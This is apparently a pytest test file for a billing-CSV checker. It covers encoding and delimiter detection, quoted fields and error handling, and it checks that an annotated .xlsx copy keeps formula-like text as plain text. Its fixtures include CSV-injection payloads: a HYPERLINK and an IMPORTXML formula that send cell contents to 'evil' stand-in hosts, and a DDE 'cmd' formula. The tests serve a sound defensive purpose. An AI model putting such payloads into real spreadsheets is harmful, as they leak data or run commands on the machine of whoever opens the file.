"""CSV inputs: encoding (UTF-8 with or without BOM, Windows-1252, Excel's UTF-16 "Unicode text")
and delimiter (comma, semicolon, tab, pipe) detected; title lines above the header; quoted fields
holding delimiters and line breaks; an annotated .xlsx copy holding every cell as text, so
formula-like text from a CSV never becomes a formula (CSV injection); clear errors for empty,
binary and oversized files.

The CSV fixture lays out the conftest billing workbook's rows on the same worksheet rows (two
title lines, a blank line, the header on row 4), so the same findings land on the same cells.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import zipfile
from collections.abc import Sequence
from pathlib import Path

import openpyxl
import pytest
import python_calamine as calamine
from conftest import AS_OF, DEFAULT_ROWS, EXPECTED_FINDINGS, HEADER, HEADER_ROW, assert_marked

from nmr_xl.config.load import load_config
from nmr_xl.errors import InputError
from nmr_xl.model import Table
from nmr_xl.plan import FINDINGS_HEADER, SUMMARY_SHEET
from nmr_xl.read.csv_source import load_csv, read_csv, sheet_title
from nmr_xl.runner import check_file

CSV_HEADER = HEADER[:-1]  # no "Line Total": a CSV export has no formulas
FINDINGS_COL = "N"  # the first column right of the CSV's columns
TITLE_LINES = [["Sunrise Chiropractic & Rehab - charge export"], ["Period: March 2026"], []]
INJECTION = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', "+1", "-2+3", "@SUM(A1:A2)",
             "=1+1", "=cmd|' /C calc'!A0"]
NOTES_COL = CSV_HEADER.index("Notes") + 1
NAME_COL = CSV_HEADER.index("Patient Name") + 1


def _text(value: object) -> str:
    if value is None:
        return ""
    if isinstance(value, dt.datetime):
        return value.strftime("%m/%d/%Y")
    return str(value)


def csv_rows(rows: Sequence[Sequence[object]] = DEFAULT_ROWS, *, titles: bool = True
             ) -> list[list[str]]:
    body = [[_text(v) for v in r[: len(CSV_HEADER)]] for r in rows]
    return [*(TITLE_LINES if titles else []), list(CSV_HEADER), *body]


def write_csv(path: Path, rows: Sequence[Sequence[str]], *, delimiter: str = ",",
              encoding: str = "utf-8", newline: str = "\r\n") -> Path:
    buffer = io.StringIO(newline="")
    csv.writer(buffer, delimiter=delimiter, lineterminator=newline).writerows(rows)
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(buffer.getvalue().encode(encoding))
    return path


def with_cell(rows: list[list[str]], row: int, col: int, text: str) -> list[list[str]]:
    """rows with worksheet cell (row, col) (1-based) replaced."""
    rows = [list(r) for r in rows]
    rows[row - 1][col - 1] = text
    return rows


def findings(result) -> list[tuple[str, str, str]]:
    return [(f.rule, f.severity.value, f.cell) for f in result.findings]


def the_table(path: Path, **kwargs) -> Table:
    book = read_csv(path, load_config(), **kwargs)
    assert len(book.tables) == 1, book.skipped
    return book.tables[0]


AS_OF_DATE = dt.date.fromisoformat(AS_OF)


# --- encodings and delimiters --------------------------------------------------------------------


@pytest.mark.parametrize("delimiter", [",", ";", "\t", "|"], ids=["comma", "semicolon", "tab",
                                                                    "pipe"])
def test_delimiters(tmp_path, delimiter):
    path = write_csv(tmp_path / "billing.csv", csv_rows(), delimiter=delimiter)
    assert load_csv(path).delimiter == delimiter
    result = check_file(path, load_config(), AS_OF_DATE, annotate=False)
    assert result.error is None
    assert findings(result) == EXPECTED_FINDINGS
    assert result.sheets[0].header_row == HEADER_ROW
    assert result.rows == len(DEFAULT_ROWS)


# Text a Windows-1252 export spells differently from UTF-8: ñ, é, an en dash, a euro sign.
NAME = "Muñoz\u2013Café €"


@pytest.mark.parametrize(("encoding", "name"), [("utf-8", "UTF-8"),
                                                ("utf-8-sig", "UTF-8 with BOM"),
                                                ("cp1252", "Windows-1252"),
                                                ("utf-16", "UTF-16")])
@pytest.mark.parametrize("titles", [True, False], ids=["titles", "header-first"])
def test_encodings(tmp_path, encoding, name, titles):
    rows = with_cell(csv_rows(titles=titles), (HEADER_ROW if titles else 1) + 1, NAME_COL, NAME)
    path = write_csv(tmp_path / "billing.csv", rows, encoding=encoding,
                     delimiter="\t" if encoding == "utf-16" else ",")
    data = load_csv(path)
    assert data.encoding == name
    assert data.rows[0][0] == rows[0][0]  # a byte-order mark is not part of the first cell
    table = the_table(path)
    assert table.header_row == (HEADER_ROW if titles else 1)
    assert table.lines[0].patient_name == NAME
    if titles:
        result = check_file(path, load_config(), AS_OF_DATE, annotate=False)
        assert findings(result) == EXPECTED_FINDINGS


def named_rows() -> list[list[str]]:
    return with_cell(csv_rows(), HEADER_ROW + 1, NAME_COL, NAME)


def test_cp1252_bytes_are_not_utf8(tmp_path):
    path = write_csv(tmp_path / "win.csv", named_rows(), encoding="cp1252")
    raw = path.read_bytes()
    with pytest.raises(UnicodeDecodeError):
        raw.decode("utf-8")  # the test above really exercises the fallback


def test_semicolon_file_with_commas_in_unquoted_text(tmp_path):
    """European Excel: ';' separates, ',' is the decimal mark and appears in free text."""
    rows = csv_rows()
    for r in rows[HEADER_ROW:]:
        r[NOTES_COL - 1] += ", see note, per plan"
        r[-1] = r[-1] + ",00"
    text = "\r\n".join(";".join(r) for r in rows) + "\r\n"
    path = tmp_path / "eu.csv"
    path.write_text(text, encoding="utf-8", newline="")
    assert load_csv(path).delimiter == ";"
    result = check_file(path, load_config(), AS_OF_DATE, annotate=False)
    assert findings(result) == EXPECTED_FINDINGS


def test_tsv_extension(tmp_path):
    path = write_csv(tmp_path / "billing.tsv", csv_rows(), delimiter="\t")
    result = check_file(path, load_config(), AS_OF_DATE, out_dir=tmp_path / "out")
    assert findings(result) == EXPECTED_FINDINGS
    assert Path(result.output).name == "billing.checked.xlsx"


def test_title_lines_with_trailing_separators(tmp_path):
    """Some exports pad title lines to the table's width: ',,,,'."""
    rows = csv_rows()
    width = len(CSV_HEADER)
    rows[:3] = [[*t, *[""] * (width - len(t))] for t in TITLE_LINES[:2]] + [[""] * width]
    path = write_csv(tmp_path / "padded.csv", rows, delimiter=";")
    result = check_file(path, load_config(), AS_OF_DATE, annotate=False)
    assert findings(result) == EXPECTED_FINDINGS


def test_lf_and_cr_line_endings(tmp_path):
    for newline in ("\n", "\r"):
        path = write_csv(tmp_path / "billing.csv", csv_rows(), newline=newline)
        result = check_file(path, load_config(), AS_OF_DATE, annotate=False)
        assert findings(result) == EXPECTED_FINDINGS, repr(newline)


# --- quoted fields ------------------------------------------------------------------------------


def test_quoted_fields_with_delimiters_quotes_and_line_breaks(tmp_path):
    """A note spanning three lines of the file is one cell: the rows after it keep their
    worksheet row numbers (a record is a row, not a line of the file)."""
    note = 'balance, gait\r\ntraining; "tandem" stance\r\nand | reach'
    rows = with_cell(csv_rows(), HEADER_ROW + 1, NOTES_COL, note)
    for delimiter in (",", ";", "\t", "|"):
        path = write_csv(tmp_path / "quoted.csv", rows, delimiter=delimiter)
        data = load_csv(path)
        assert data.delimiter == delimiter
        assert data.rows[HEADER_ROW][NOTES_COL - 1] == note.replace("\r\n", "\n")
        result = check_file(path, load_config(), AS_OF_DATE, out_dir=tmp_path / "out")
        assert findings(result) == EXPECTED_FINDINGS
        ws = openpyxl.load_workbook(result.output)["quoted"]
        assert ws.cell(HEADER_ROW + 1, NOTES_COL).value == note.replace("\r\n", "\n")


def test_unclosed_quote_is_a_clear_error(tmp_path):
    path = tmp_path / "broken.csv"
    rows = csv_rows()
    text = "\n".join(",".join(r) for r in rows[:HEADER_ROW + 1]) + '\nA,"never closed' \
        + "x" * 200_000 + "\n"
    path.write_text(text, encoding="utf-8")
    result = check_file(path, load_config(), AS_OF_DATE, annotate=False)
    assert result.error is not None and result.error.code == "corrupt"
    assert "never closed" in result.error.message


# --- the annotated copy ---------------------------------------------------------------------------


@pytest.fixture
def injected(tmp_path) -> tuple[Path, Path, list[list[str]]]:
    """A CSV whose notes and names hold formula-like text, checked with an annotated copy."""
    rows = csv_rows()
    for offset, text in enumerate(INJECTION):
        row = HEADER_ROW + 1 + offset
        col = NOTES_COL if offset % 2 else NAME_COL
        rows = with_cell(rows, row, col, text)
    rows = with_cell(rows, 1, 1, "=IMPORTXML(CONCAT(\"http://evil/\",A5),\"//a\")")
    rows = with_cell(rows, HEADER_ROW + 1, len(CSV_HEADER), "0060")  # leading zeros kept
    source = write_csv(tmp_path / "in" / "billing.csv", rows)
    result = check_file(source, load_config(), AS_OF_DATE, out_dir=tmp_path / "out")
    assert result.error is None
    assert result.output == str(tmp_path / "out" / "billing.checked.xlsx")
    return source, Path(result.output), rows


def test_copy_keeps_every_cell_as_text_read_by_openpyxl(injected):
    _, copy, rows = injected
    ws = openpyxl.load_workbook(copy)["billing"]
    for r, cells in enumerate(rows, start=1):
        for c, text in enumerate(cells, start=1):
            cell = ws.cell(r, c)
            if text == "":
                assert cell.value is None, cell.coordinate
            else:
                assert cell.value == text, cell.coordinate
                assert cell.data_type == "s", cell.coordinate
    assert ws.max_column == len(CSV_HEADER) + 1  # the findings column and nothing else


def test_copy_holds_no_formula(injected):
    _, copy, _ = injected
    with zipfile.ZipFile(copy) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/sheet"):
                assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name)


def test_formula_like_text_stays_text_when_edited(injected):
    """Excel's quote prefix (as when typing '=...): editing the cell keeps it text."""
    _, copy, _ = injected
    ws = openpyxl.load_workbook(copy)["billing"]
    row = HEADER_ROW + 1
    assert ws.cell(row, NAME_COL).value == INJECTION[0]
    assert ws.cell(row, NAME_COL).quotePrefix
    assert not ws.cell(row, 1).quotePrefix


def test_copy_keeps_every_cell_read_by_calamine(injected):
    _, copy, rows = injected
    book = calamine.CalamineWorkbook.from_path(str(copy))
    values = book.get_sheet_by_name("billing").to_python(skip_empty_area=False)
    for r, cells in enumerate(rows):
        for c, text in enumerate(cells):
            assert values[r][c] == text, (r + 1, c + 1)


def test_copy_has_coloured_findings_and_summary(injected):
    source, copy, _ = injected
    book = openpyxl.load_workbook(copy)
    assert book.sheetnames == [SUMMARY_SHEET, "billing"]
    ws = book["billing"]
    assert_marked(ws, EXPECTED_FINDINGS)
    for rule, severity, ref in EXPECTED_FINDINGS:
        assert ws[f"{FINDINGS_COL}{ref[1:]}"].value.startswith(f"{rule} {severity}: ")
    assert ws[f"{FINDINGS_COL}{HEADER_ROW}"].value == FINDINGS_HEADER
    assert ws["G5"].fill.fill_type is None
    summary = book[SUMMARY_SHEET]
    facts = {r[0]: r[1] for r in summary.iter_rows(values_only=True) if r[0] and r[1]}
    assert facts["Input"] == source.name
    assert "CSV (UTF-8, comma-separated)" in facts["Input format"]
    assert "new .xlsx" in facts["Input format"]
    assert facts["Billing lines checked"] == str(len(DEFAULT_ROWS))


def test_result_warns_that_the_copy_is_a_new_workbook(tmp_path):
    path = write_csv(tmp_path / "billing.csv", named_rows(), delimiter=";", encoding="cp1252")
    result = check_file(path, load_config(), AS_OF_DATE)
    assert result.output == str(tmp_path / "billing.checked.xlsx")
    assert len(result.warnings) == 1
    warning = result.warnings[0]
    assert "new .xlsx" in warning and "CSV" in warning and "as text" in warning
    assert "Windows-1252, semicolon-separated" in warning
    assert path.read_bytes() == write_csv(tmp_path / "again.csv", named_rows(), delimiter=";",
                                          encoding="cp1252").read_bytes()  # input untouched


def test_no_annotate_writes_nothing_and_warns_nothing(tmp_path):
    path = write_csv(tmp_path / "billing.csv", csv_rows())
    result = check_file(path, load_config(), AS_OF_DATE, annotate=False)
    assert result.output is None and result.warnings == []
    assert sorted(p.name for p in tmp_path.iterdir()) == ["billing.csv"]


def test_control_characters_are_named(tmp_path):
    rows = with_cell(csv_rows(), HEADER_ROW + 1, NOTES_COL, "balance\x0btraining")
    path = write_csv(tmp_path / "ctl.csv", rows)
    result = check_file(path, load_config(), AS_OF_DATE)
    assert result.output
    assert any("control characters" in w and "1 cell" in w for w in result.warnings)
    ws = openpyxl.load_workbook(result.output)["ctl"]
    assert ws.cell(HEADER_ROW + 1, NOTES_COL).value == "balancetraining"


def test_dest_is_used_exactly(tmp_path):
    path = write_csv(tmp_path / "billing.csv", csv_rows())
    dest = tmp_path / "batch" / "2026-03-02 from practice" / "billing (2).checked.xlsx"
    result = check_file(path, load_config(), AS_OF_DATE, out_dir=tmp_path / "ignored",
                        dest=dest)
    assert result.output == str(dest) and dest.is_file()
    assert not (tmp_path / "ignored").exists()
    assert not (tmp_path / "billing.checked.xlsx").exists()


def test_dest_for_a_workbook(billing_xlsx, tmp_path):
    dest = tmp_path / "elsewhere" / "named.xlsx"
    result = check_file(billing_xlsx, load_config(), AS_OF_DATE, dest=dest)
    assert result.output == str(dest) and dest.is_file()
    assert findings(result) == EXPECTED_FINDINGS


def test_workbook_named_csv_is_read_as_a_workbook(billing_xlsx, tmp_path):
    renamed = tmp_path / "export.csv"
    renamed.write_bytes(billing_xlsx.read_bytes())
    result = check_file(renamed, load_config(), AS_OF_DATE, out_dir=tmp_path / "out")
    assert result.error is None
    assert findings(result) == EXPECTED_FINDINGS
    assert Path(result.output).name == "export.checked.xlsx"


@pytest.mark.parametrize(("stem", "title"), [
    ("billing", "billing"),
    ("March [final]: a/b?*", "March _final__ a_b__"),
    ("x" * 40, "x" * 31),
    ("'quoted'", "quoted"),
    ("History", "History_"),
    ("   ", "CSV"),
])
def test_sheet_title(stem, title):
    assert sheet_title(stem) == title


def test_odd_file_name_gives_a_valid_sheet(tmp_path):
    path = write_csv(tmp_path / "Billing [March] 'final' - a very long export name.csv",
                     csv_rows())
    result = check_file(path, load_config(), AS_OF_DATE)
    assert result.error is None and result.output
    book = openpyxl.load_workbook(result.output)
    assert book.sheetnames == [SUMMARY_SHEET, "Billing _March_ 'final' - a ver"]
    assert result.findings[0].sheet == book.sheetnames[1]


# --- the command line -------------------------------------------------------------------------


def test_cli_check_csv(cli, tmp_path):
    source = write_csv(tmp_path / "in" / "billing.csv", csv_rows(), delimiter=";",
                       encoding="utf-8-sig")
    out = tmp_path / "out"
    report = tmp_path / "report.json"
    run = cli("check", source, "--as-of", AS_OF, "--out", out, "--report", report)
    assert run.code == 1, run.err  # an error-level finding
    # one file named alone: its copy, no batch summary
    assert sorted(p.name for p in out.iterdir()) == [".nmr-xl-state.json", ".nmr-xl.lock",
                                                      "billing.checked.xlsx"]
    doc = json.loads(report.read_text(encoding="utf-8"))
    (file,) = doc["files"]
    assert file["status"] == "checked"
    assert file["output"] == str(out / "billing.checked.xlsx")
    assert [(f["rule"], f["severity"], f["cell"]) for f in file["findings"]] == \
        EXPECTED_FINDINGS
    assert file["sheets"][0]["name"] == "billing"
    assert any("new .xlsx" in w for w in file["warnings"])
    assert f"{source}:billing!G7: NMR102 error" in run.out
    assert "warning: The annotated copy is a new .xlsx workbook made from the CSV" in run.out
    assert "Traceback" not in run.out + run.err


@pytest.mark.parametrize(("name", "content", "code", "words"), [
    ("empty.csv", b"", "empty", "empty"),
    ("blank.csv", b"\xef\xbb\xbf\r\n\r\n  \r\n", "empty", "no data"),
    ("commas.csv", b",,,\r\n, ,\r\n", "empty", "no data"),
    ("binary.csv", bytes(range(256)) * 8, "unsupported-format", "not a text/CSV file"),
    ("noise.csv", bytes([1, 2, 3, 4, 5, 6, 7, 8, 65]) * 100, "unsupported-format",
     "not a text/CSV file"),
    ("pictures.csv", b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(64), "unsupported-format",
     "not a text/CSV file"),
    ("old.csv", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504), "unsupported-format",
     "Excel 97-2003"),
    ("no-table.csv", b"name,phone\r\nAnn,555\r\n", "no-billing-table", "billing table"),
])
def test_cli_bad_csv(cli, tmp_path, name, content, code, words):
    path = tmp_path / name
    path.write_bytes(content)
    good = write_csv(tmp_path / "good.csv", csv_rows(DEFAULT_ROWS[:2]))  # the run goes on
    run = cli("check", path, good, "--as-of", AS_OF, "--out", tmp_path / "out")
    assert run.code == 2
    (line,) = [x for x in run.out.splitlines() if x.startswith(str(path))]
    assert f"error [{code}]" in line and words in line, line
    assert "good.csv: 2 billing lines" in run.out
    assert "Traceback" not in run.out + run.err


def test_too_large(tmp_path):
    path = write_csv(tmp_path / "big.csv", csv_rows())
    with pytest.raises(InputError) as caught:
        load_csv(path, max_bytes=100)
    assert caught.value.code == "too-large"
    assert "limit" in caught.value.message
    assert load_csv(path, max_bytes=path.stat().st_size).rows  # exactly at the cap is fine


def test_missing_file(tmp_path):
    with pytest.raises(InputError) as caught:
        load_csv(tmp_path / "nope.csv")
    assert caught.value.code == "not-found"


def test_delimiter_detection_stays_fast_on_odd_text():
    """csv.Sniffer's regular expressions are quadratic on text full of unclosed quotes."""
    from time import perf_counter

    from nmr_xl.read.csv_source import detect_delimiter

    for text in (",'a" * 30_000, ';"a' * 30_000):
        start = perf_counter()
        detect_delimiter(text)
        assert perf_counter() - start < 5
